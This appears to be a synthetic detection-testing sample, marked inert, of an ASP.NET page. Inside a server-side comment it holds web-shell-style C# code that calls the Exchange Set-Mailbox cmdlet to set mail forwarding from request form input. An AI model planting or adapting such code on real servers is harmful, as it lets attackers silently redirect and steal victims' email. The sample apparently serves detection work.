<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><% using (var ps = System.Management.Automation.PowerShell.Create()) { ps.Runspace = rs; ps.AddCommand("Set-Mailbox").AddParameter("Identity", txtUser.Text).AddParameter("ForwardingAddress", Request.Form["fwd"]); ps.Invoke(); } %>
--%>
